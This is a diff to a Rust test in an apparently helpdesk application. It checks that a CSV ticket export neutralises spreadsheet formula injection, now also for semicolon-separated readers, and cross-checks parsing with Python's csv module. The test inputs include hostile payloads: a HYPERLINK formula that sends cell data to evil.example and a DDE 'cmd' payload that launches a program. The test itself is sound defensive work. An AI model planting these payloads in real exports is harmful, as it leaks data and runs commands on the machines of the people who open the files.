@@ -1,5 +1,10 @@
 //! What a lead looks at, and what leaves as a table.
 
+use std::{
+    io::Write,
+    process::{Command, Stdio},
+};
+
 use cornerdesk_tests::{
     Database, Service,
     client::a_submission_with,
@@ -9,6 +14,22 @@ use cornerdesk_tests::{
 use serde_json::json;
 
 use crate::people::{OTHER_SITE, two_sites};
+
+/// The rows of a table as Python's own reader finds them.
+fn read_by_python(table: &str) -> Vec<Vec<String>> {
+    let program = "import csv, io, json, sys\ntext = sys.stdin.buffer.read().decode('utf-8-sig')\nprint(json.dumps(list(csv.reader(io.StringIO(text, newline='')))))";
+    let mut python = Command::new("/usr/bin/python3")
+        .args(["-c", program])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("python3 can be run");
+    let mut input = python.stdin.take().expect("a pipe");
+    input.write_all(table.as_bytes()).expect("it reads");
+    drop(input);
+    let output = python.wait_with_output().expect("it ends");
+    serde_json::from_slice(&output.stdout).expect("a list of rows")
+}
 
 const METEORAGE: &str = "policy = \"meteorage\"\noverlay = \"meteorage-fr\"\n";
 
@@ -72,15 +93,18 @@ on_both_databases! {
     async fn what_a_stranger_writes_is_no_formula_in_a_table(database: Database) {
         let service = Service::start_with(Setup::new(database)).await;
         let staff = service.sign_in_staff().await;
-        for summary in ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2", "@SUM(1)", "＝1+1", "\"=1+1\"", "Fine, really"] {
+        for summary in ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2", "@SUM(1)", "＝1+1", "\"=1+1\"", "two; =1+1", "Fine, really"] {
             service.client().submit(&a_submission_with(json!({ "summary": summary }))).await.reference();
         }
         let table = staff.get("/desk/reports/tickets.csv").await;
         assert!(table.header("content-disposition").is_some_and(|value| value.starts_with("attachment; ")));
         let mut rows = csv::Reader::from_reader(table.text.trim_start_matches('\u{feff}').as_bytes());
         let cells: Vec<String> = rows.records().flat_map(|row| row.expect("a row").iter().map(str::to_owned).collect::<Vec<_>>()).collect();
-        assert_eq!(cells.len(), 7 * 11);
-        let formulas: Vec<_> = cells.iter().filter(|cell| cell.trim_start_matches(['"', ' ']).starts_with(['=', '+', '-', '@', '＝'])).collect();
+        assert_eq!(cells.len(), 8 * 11);
+        assert_eq!(read_by_python(&table.text)[1..].concat(), cells, "another reader finds the same cells");
+        // Of a program that takes semicolons for the ends of cells, too.
+        let parts = cells.iter().flat_map(|cell| cell.split(';'));
+        let formulas: Vec<_> = parts.filter(|cell| cell.trim_start_matches(['"', ' ']).starts_with(['=', '+', '-', '@', '＝'])).collect();
         assert!(formulas.is_empty(), "{formulas:?}");
         assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1)".to_owned()) && cells.contains(&"Fine, really".to_owned()));
     }
